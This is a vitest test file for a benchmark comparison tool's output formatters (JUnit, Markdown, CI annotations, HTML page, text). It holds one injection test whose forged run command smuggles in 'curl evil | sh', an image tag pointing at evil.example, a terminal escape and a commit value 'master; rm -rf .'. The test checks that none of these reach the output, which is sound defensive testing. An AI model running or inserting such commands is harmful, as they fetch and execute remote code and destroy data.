import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { escapeMarkdown } from "../../../src/core/escape.ts";
import { formatTable } from "../../../src/harness/cli/output.ts";
import { compareRuns } from "../../../src/harness/compare/compare.ts";
import { usual } from "../../../src/harness/compare/options.ts";
import { annotations } from "../../../src/harness/compare/output/annotations.ts";
import { comparisonJunit } from "../../../src/harness/compare/output/junit.ts";
import { comparisonMarkdown } from "../../../src/harness/compare/output/markdown.ts";
import { comparisonPage } from "../../../src/harness/compare/output/page.ts";
import { sparkText } from "../../../src/harness/compare/output/sparkline.ts";
import { comparisonText } from "../../../src/harness/compare/output/text.ts";
import { readAsset } from "../../../src/harness/report/assets.ts";
import { machine, quality, snapshot, timing } from "./made.ts";

const about = (level: number, n = 8) => Array.from({ length: n }, (_, i) => level * (1 + 0.002 * i));

const NASTY = "x/a<b>&\"'|`\u0007]]>/request_ms";
const rows = (slower: number) => [
  timing("latency/ddpm/ddim-50/batch-1/request_ms", about(40 * slower)),
  timing(NASTY, about(4 * (1 + 0.8 * (slower - 1)))),
  quality("diversity/dcgan/one-pass/fid", about(31, 4)),
  timing("latency/dcgan/one-pass/batch-1/request_ms", about(0.1, 2)),
];
const base = snapshot("base-run", [...rows(1), timing("latency/gone", [1, 2])], { commit: "a".repeat(40) });
const head = snapshot("head-run", [...rows(1.2), timing("latency/fresh", [1, 2])], {
  commit: "b".repeat(40),
});

const compare = (changes: Partial<Parameters<typeof compareRuns>[0]> = {}) =>
  compareRuns({
    base: { label: "base", snapshot: base },
    head: { label: "head", snapshot: head },
    options: usual,
    select: { patterns: [] },
    allowMismatch: false,
    strict: false,
    notices: ["cells.jsonl line 9 was cut off"],
    ...changes,
  });

const elsewhere = { ...head, machine: { ...machine, device: "Other CPU", node: "22" } };
const marked = compare({ head: { label: "head", snapshot: elsewhere }, allowMismatch: true });

/** A regression of a run whose record came from elsewhere. */
const forged = (command: string, commit: string) => {
  const run = { ...head.run, command };
  return compare({ head: { label: "head", snapshot: { ...head, run, commit } } });
};

it("nothing that a record calls its command or commit runs in a shell, closes a block or controls a terminal", () => {
  const payload = "bench run\n```\n<img src=https://evil.example/x>\n::error::x\u001b[2J; curl evil | sh";
  const forgedRun = forged(payload, "master; rm -rf .");
  for (const text of [comparisonMarkdown(forgedRun), comparisonText(forgedRun, () => "")]) {
    expect(text).toContain("# the command of head is not recorded as bench writes it");
    expect(text).not.toMatch(/curl|rm -rf|evil|\[2J/);
  }
  const quoted = "bench run --suite 'my suite' --set 'a='\\\\''b'";
  expect(comparisonMarkdown(forged(quoted.replaceAll("\\\\", "\\"), "b".repeat(40)))).toContain("'my suite'");
});

const repeat = [
  `git switch --detach ${"a".repeat(40)} && npm ci`,
  "npx gan-vs-diffusion-bench run --suite nightly --out base",
  `git switch --detach ${"b".repeat(40)} && npm ci`,
  "npx gan-vs-diffusion-bench run --suite nightly --out head",
  "npx gan-vs-diffusion-bench compare base head --metric latency/ddpm/ddim-50/batch-1/request_ms",
];

/** Every start tag closed in order, entities known, no stray bracket: what a parser would refuse. */
function wellFormed(xml: string): void {
  const open: string[] = [];
  const body = xml.replace(/^<\?xml[^?]*\?>/, "");
  for (const [, closing, name, attributes, self] of body.matchAll(
    /<(\/?)([a-z-]+)((?:\s+[a-z]+="[^"<&]*(?:&(?:amp|lt|gt|quot);[^"<&]*)*")*)\s*(\/?)>/g,
  )) {
    expect(attributes).toBeDefined();
    if (closing) expect(open.pop()).toBe(name);
    else if (!self) open.push(name!);
  }
  expect(open).toEqual([]);
  const text = body.replace(/<\/?[a-z-]+(?:\s+[a-z]+="[^"]*")*\s*\/?>/g, "");
  expect(text).not.toMatch(/[<>]|&(?!(amp|lt|gt|quot);)/);
  // biome-ignore lint/suspicious/noControlCharactersInRegex: that is the question
  expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
}

describe("JUnit", () => {
  const xml = comparisonJunit(compare());

  it("is well-formed whatever a reading is called, and counts its cases", () => {
    wellFormed(xml);
    const count = (pattern: RegExp) => [...xml.matchAll(pattern)].length;
    expect(xml).toContain('tests="6" failures="2" errors="1" skipped="1"');
    expect(count(/<testcase /g)).toBe(6);
    expect(count(/<failure /g)).toBe(2);
  });

  it("gives a regression its old and new value, change, p, threshold and how to repeat it", () => {
    const [failure] = xml.match(
      /<testcase classname="latency.ddpm.ddim-50.batch-1" name="request_ms">[\s\S]*?<\/testcase>/,
    )!;
    for (const part of [
      "old: 40.3",
      "new: 48.3",
      "change: +20.0% (",
      "p (Holm): ",
      "threshold: 5.0%, the floor",
      ...repeat,
    ])
      expect(failure).toContain(part.replaceAll("&", "&amp;"));
  });
});

describe("Markdown", () => {
  it("tells regressions first, in tables that no name breaks", () => {
    const text = comparisonMarkdown(compare());
    expect(text).toMatch(/^## Benchmark: something is lost\n/);
    expect(text.indexOf("### Regressed: 2")).toBeLessThan(text.indexOf("### Vanished: 1"));
    for (const line of repeat) expect(text).toContain(line);
    const tableRows = text.split("\n").filter((line) => line.startsWith("| ") && line.includes("request"));
    for (const row of tableRows) expect(row.match(/(?<!\\)\|/g)).toHaveLength(9);
    expect(text).not.toContain("<b>");
  });

  it("is cut at whole lines to the bytes there are, says how many rows are left out, and keeps the regressions", () => {
    const small = compare();
    const last = small.rows.at(-1)!;
    const more = Array.from({ length: 4000 }, (_, i) => ({ ...last, key: `latency/ä${i}/request_ms` }));
    const big = { ...small, rows: [...small.rows, ...more] };
    for (const limit of [6_000, 50_000, 300_000]) {
      const text = comparisonMarkdown(big, limit);
      expect(Buffer.byteLength(text)).toBeLessThanOrEqual(limit);
      expect(text.replaceAll(escapeMarkdown(NASTY), "")).not.toContain("\ufffd"); // no letter is cut in two
      const [, left, all] =
        /\*\*Cut to \d+ bytes: (\d+) of (\d+) rows are left out\. --json holds all of them\.\*\*\n$/.exec(
          text,
        )!;
      const shown = text.split("\n").filter((line) => /^\| .*(latency|x\/a|diversity)/.test(line)).length;
      expect(Number(left) + shown).toBe(Number(all));
      expect(text.match(/<details>/g)?.length ?? 0).toBe(text.match(/<\/details>/g)?.length ?? 0);
    }
    expect(Buffer.byteLength(comparisonMarkdown(big))).toBeLessThanOrEqual(1024 * 1024);
  });
});

describe("annotations", () => {
  it("mark errors and warnings, one line each, at most ten of a kind", () => {
    const lines = annotations(compare());
    expect(lines.filter((line) => line.startsWith("::error "))).toHaveLength(3);
    for (const line of lines) expect(line).toMatch(/^::(error|warning|notice) title=[^:,\n]*::[^\n]*$/);
    expect(annotations(marked)[0]).toMatch(/^::error title=vanished/);
    const gone = Array.from({ length: 40 }, (_, i) => timing(`g${i}`, [1]));
    const lost = compare({ base: { label: "b", snapshot: snapshot("x", [...rows(1), ...gone]) } });
    const errors = annotations(lost).filter((line) => line.startsWith("::error"));
    expect(errors).toHaveLength(10);
    expect(errors.at(-1)).toBe("::error title=more::33 more, in the step summary");
  });
});

describe("the page", async () => {
  const css = await readAsset("report.css");
  const page = comparisonPage(compare(), css);

  it("loads nothing and runs nothing: its policy allows its own style alone", () => {
    const style = /<style>([\s\S]*?)<\/style>/.exec(page)![1]!;
    const hash = createHash("sha256").update(style).digest("base64");
    expect(page).toContain(`style-src &#39;sha256-${hash}&#39;`);
    expect(page).toContain("default-src &#39;none&#39;");
    expect(page).not.toMatch(/<script|<link|<img| style="|https?:/i);
    expect(style).toContain("light-dark(");
  });

  it("holds each row's numbers, its course, and the commands of a regression", () => {
    expect(page).toContain('<h2 id="regressed">Regressed: 2</h2>');
    expect(page).toContain("+20.0% (");
    expect(page).toContain(repeat[4]);
    expect(page.match(/<svg class="spark"/g)).toHaveLength(6);
    expect(page).toContain("x/a&lt;b&gt;&amp;&quot;&#39;|");
  });
});

describe("text", () => {
  it("says what is compared, the table of news, and how to repeat the first regression", () => {
    const text = comparisonText(compare(), formatTable);
    expect(text).toContain(
      "head (run head-run, suite nightly, commit bbbbbbbbbbbb) against base (run base-run",
    );
    expect(text).toContain("6 readings: 2 regressed, 1 vanished, 1 inconclusive, 1 new, 1 unchanged");
    expect(text).toMatch(/inconclusive \(needs n >= \d+ processes\) +latency\/dcgan/);
    for (const line of repeat) expect(text).toContain(line);
    expect(text).toContain("note: cells.jsonl line 9 was cut off");
  });

  it.each([
    ["text", () => comparisonText(marked, formatTable)],
    ["Markdown", () => comparisonMarkdown(marked)],
    ["JUnit", () => comparisonJunit(marked)],
    ["annotations", () => annotations(marked).join("\n")],
    ["the page", () => comparisonPage(marked, "")],
  ])("%s is marked where a mismatch was allowed", (_, make) => {
    expect(make()).toContain("Mismatch allowed: 3 readings compared although device, node differ.");
  });
});

it.each([
  [[1, 2, 3, 4, 5, 6, 7, 8], 8, "▁▂▃▄▅▆▇█"],
  [[1, 1, 8, 8], 2, "▁▁ ██"],
  [[5], 1, "▄"],
  [[], 0, ""],
])("a sparkline of %j is drawn", (values, start, text) => {
  expect(sparkText({ values, head: start })).toBe(text);
});
